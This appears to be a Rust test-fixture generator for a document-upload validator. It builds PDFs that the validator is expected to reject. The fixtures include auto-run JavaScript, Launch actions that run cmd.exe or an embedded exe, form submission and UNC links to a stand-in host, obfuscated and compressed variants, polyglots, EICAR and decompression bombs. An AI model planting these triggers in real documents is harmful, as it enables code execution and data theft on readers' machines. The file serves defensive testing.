//! Documents (PDF) that act, hide something, or are something else as well.

use super::pictures::TAILS;
use super::{Dice, File, Must, eicar, packed, pdf, zip};

/// What a catalogue, a page or a field may say.
const ACTS: [&str; 28] = [
    "/OpenAction << /S /GoTo /D [2 0 R /Fit] /X << >> /Next 8 0 R >>",
    "/OpenAction << /S /GoTo /S /URI /URI (https://jahat.example) >>",
    "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    "/OpenAction << /S /JavaScript /JS <6170702e616c657274> >>",
    "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "/OpenAction << /S /Launch /F (calc) >>",
    "/OpenAction << /S /URI /URI (https://jahat.example) >>",
    "/OpenAction << /S /GoToR /F (\\\\\\\\jahat.example\\\\x) /D [0 /Fit] >>",
    "/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>",
    "/OpenAction << /S /SubmitForm /F (https://jahat.example) >>",
    "/OpenAction << /S /ImportData /F (x.fdf) >>",
    "/OpenAction << /S /Named /N /Print >>",
    "/OpenAction 77 0 R",
    "/AA << /O << /S /URI /URI (https://jahat.example) >> >>",
    "/AA << /O << /F (\\\\\\\\jahat.example\\\\x) /D [0 /Fit] /S /GoToE >> >>",
    "/AA<</WC<</S/JavaScript/JS(x)>>>>",
    "/AA 9 0 R",
    "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
    "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
    "/AF [5 0 R] /X << /Type /Filespec /EF << /F 6 0 R >> >> /Y << /Type /EmbeddedFile >>",
    "/AcroForm << /XFA [(template) 5 0 R] >>",
    "/AcroForm << /XFA 5 0 R >>",
    "/A << /S /Rendition /JS (app.alert(1)) >>",
    "/A << /S /RichMediaExecute >> /Subtype /RichMedia",
    "/A << /S /SubmitForm /F (https://jahat.example) >>",
    "/A << /S /Launch /F (a.exe) >>",
    "/Encrypt 8 0 R",
    "/Next << /S /JavaScript /JS 5 0 R >>",
];

/// A name with some letters written as their codes.
fn coded(text: &str, dice: &mut Dice) -> String {
    let mut coded = String::new();
    let mut is_name = false;
    for letter in text.chars() {
        is_name = letter == '/' || (is_name && letter.is_ascii_alphanumeric());
        if is_name && letter != '/' && dice.below(3) == 0 {
            coded.extend(format!("#{:02x}", u32::from(letter)).chars());
        } else {
            coded.push(letter);
        }
    }
    coded
}

/// A document whose objects are packed, under a heading.
fn hidden(act: &str, heading: &str) -> Vec<u8> {
    let objects = format!("7 0 << {act} >>");
    let stream = packed(objects.as_bytes());
    let head = format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n4 0 obj\n<< {heading} >>\nstream\n"
    );
    [head.as_bytes(), &stream, b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"].concat()
}

/// Headings of packed objects, as readers take them.
const HEADINGS: [&str; 8] = [
    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
    "/Type /#4fbjStm /N 1 /First 4 /Filter [/Fl#61teDecode]",
    "/N 1 /First 4 /Filter /FlateDecode",
    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /X (obj)",
    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /X (9 0 obj)",
    "/Type 5 0 R /N 1 /First 4 /Filter /FlateDecode",
    "/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]",
    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
];

/// Files of this kind.
pub(super) fn all(dice: &mut Dice) -> Vec<File> {
    let mut files = Vec::new();
    let refused = |what, bytes: Vec<u8>| File::new(what, "surat.pdf", bytes, Must::Refused);
    for act in ACTS {
        files.push(refused("document that acts", pdf(act, "")));
        for _ in 0..5 {
            files.push(refused("document that acts", pdf(&coded(act, dice), "")));
            let object = format!("9 0 obj << {} >> endobj", coded(act, dice));
            files.push(refused("document that acts", pdf("", &object)));
        }
        for heading in HEADINGS {
            files.push(refused("act that is packed", hidden(act, heading)));
        }
    }
    for tail in TAILS {
        files.push(refused("two in one", [pdf("", ""), zip(&[("x.html", tail)])].concat()));
        files.push(refused("two in one", [zip(&[("x.html", tail)]), pdf("", "")].concat()));
        files.push(refused("two in one", [tail.as_bytes(), b"\n", &pdf("", "")].concat()));
        if tail.starts_with('<') {
            files.push(refused("two in one", [&pdf("", ""), tail.as_bytes()].concat()));
        }
    }
    for _ in 0..30 {
        let whole = pdf("", &format!("9 0 obj ({}) endobj", dice.word()));
        files.push(refused("cut off", whole[..dice.below(whole.len() - 8)].to_vec()));
        let (before, after) = (dice.below(70_000), dice.below(100));
        let bytes = [pdf("", ""), dice.bytes(before), eicar(), dice.bytes(after), b"%%EOF".to_vec()].concat();
        files.push(refused("signature", bytes));
    }
    let heading = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";
    for size in [17 << 20, 24 << 20] {
        files.push(refused("bomb", hidden(&" ".repeat(size), heading)));
    }
    files.push(refused("signature packed", hidden(std::str::from_utf8(&eicar()).unwrap(), heading)));
    for ending in ["png", "jpg", "webp", "svg", "docx", "odt", "mp4", "mp3", "vtt", "exe", "html", "js"] {
        files.push(File::new("wrong ending", format!("x.{ending}"), pdf("", ""), Must::Refused));
    }
    files
}
